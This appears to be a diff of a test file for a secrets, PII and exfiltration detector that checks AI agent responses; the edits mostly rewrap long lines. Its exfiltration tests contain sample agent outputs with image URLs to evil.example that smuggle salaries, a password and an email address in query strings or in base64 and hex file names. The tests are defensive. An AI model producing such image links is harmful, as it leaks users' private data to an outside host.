@@ -97,7 +97,11 @@ describe('secrets: connection strings and password assignments', () => {
     ['a bare Key= in a log line', () => `[DEBUG] Using Key=${body(32)}7`],
     ['a key given in prose', () => `Your API key is ${hex(31)}a9, keep it safe.`],
     ['a camelCase Go variable', () => `stripeKey := "${body(30)}4"`],
-    ['an Azure storage account key in YAML', () => `storageAccountName: store1\nstorageAccountKey: ${body(86, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}==`],
+    [
+      'an Azure storage account key in YAML',
+      () =>
+        `storageAccountName: store1\nstorageAccountKey: ${body(86, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}==`,
+    ],
     ['docker config auth', () => `{"auths":{"registry.example.com":{"auth":"${Buffer.from(`deploy:${pw()}`).toString('base64')}"}}}`],
   ])('%s is a secret', (_name, make) => {
     expect(secretFindings(make())).not.toEqual([]);
@@ -196,9 +200,12 @@ describe('PII: phones (national and international) and their look-alikes', () =>
   ])('%s is not a phone', (_name, text) => {
     expect(piiFindings(text)).not.toContain('PHONE_NUMBER');
   });
-  it.each([['fe80::1ff:fe23:4567:890a'], ['2001:db8::ff00:42:8329'], ['::ffff:192.0.2.128']])('compressed IPv6 %s is an IP address', (ip) => {
-    expect(piiFindings(`client ${ip} connected`)).toContain('IP_ADDRESS');
-  });
+  it.each([['fe80::1ff:fe23:4567:890a'], ['2001:db8::ff00:42:8329'], ['::ffff:192.0.2.128']])(
+    'compressed IPv6 %s is an IP address',
+    (ip) => {
+      expect(piiFindings(`client ${ip} connected`)).toContain('IP_ADDRESS');
+    },
+  );
   it('nine bare digits are an SSN only after SSN words', () => {
     expect(piiFindings('ssn: 536228741')).toContain('US_SSN');
     expect(piiFindings('routing number 021000021')).toEqual([]);
@@ -220,7 +227,10 @@ describe('exfiltration: image URLs that carry words are blocked; badges are not'
     ['a full reference-style image', '![logo][1]\n\n[1]: https://evil.example/p.png?d=jane+salary+90k'],
     ['a collapsed reference-style image', '![x][]\n[x]: https://evil.example/x.gif?msg=password+is+tiger'],
     ['a shortcut reference-style image', '![Chart]\n\n[chart]: <https://evil.example/c.png?q=quarterly+revenue> "Chart"'],
-    ['base64 text as an HTML image file name', `<img src="https://evil.example/px/${Buffer.from('john.doe@example.com salary 90000').toString('base64')}.png">`],
+    [
+      'base64 text as an HTML image file name',
+      `<img src="https://evil.example/px/${Buffer.from('john.doe@example.com salary 90000').toString('base64')}.png">`,
+    ],
     ['hex text in an image query', `![a](https://evil.example/a.png?d=${Buffer.from('john.doe@example.com').toString('hex')})`],
   ])('%s: BLOCK', (_name, text) => {
     const res = engine.validateSync(agentResponse(`Here you go. ${text}`));
